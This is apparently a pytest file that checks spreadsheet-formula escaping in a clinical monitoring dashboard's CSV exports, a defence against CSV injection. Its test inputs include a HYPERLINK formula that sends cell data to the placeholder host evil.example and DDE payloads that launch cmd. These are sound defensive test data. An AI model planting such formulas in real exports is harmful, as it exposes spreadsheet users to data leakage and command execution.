"""Exported CSV cells are never spreadsheet formulas (issue 12 point 8; OWASP CSV Injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from monitoring.spreadsheet import formula_safe


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
     "\t=1+1", "\r=1+1", "-sodium valproate"],
)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.02", "+3", "-1e-3", "-.5", -0.02, 3, None, "Cora Critical", "ALT 2x ULN", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert formula_safe(value) == value


def test_the_dashboard_download_keeps_negative_changes_numeric_and_names_inert() -> None:
    from dashboard.store import csv_bytes

    table = pd.DataFrame({"patient": ["=cmd|' /C calc'!A0", "Walt Warning"], "change": [-0.02, 1.5],
                          "as text": ["-0.02", "@x"]})
    rows = list(csv.DictReader(io.StringIO(csv_bytes(table).decode("utf-8"))))
    assert [r["patient"] for r in rows] == ["'=cmd|' /C calc'!A0", "Walt Warning"]
    assert [r["change"] for r in rows] == ["-0.02", "1.5"]
    assert [r["as text"] for r in rows] == ["-0.02", "'@x"]


def test_the_alert_report_csv_neutralises_a_free_text_reason() -> None:
    from monitoring.episode_report import CodeStats, to_csv

    stats = CodeStats(code="ICU_CRITERIA", fired=1, acknowledged=1)
    stats.by_reason['=HYPERLINK("http://evil.example")'] = 1
    [row] = list(csv.reader(io.StringIO(to_csv([stats]))))[1:]
    assert row[3].startswith("'=HYPERLINK") and row[0] == "ICU_CRITERIA" and row[1] == "1"
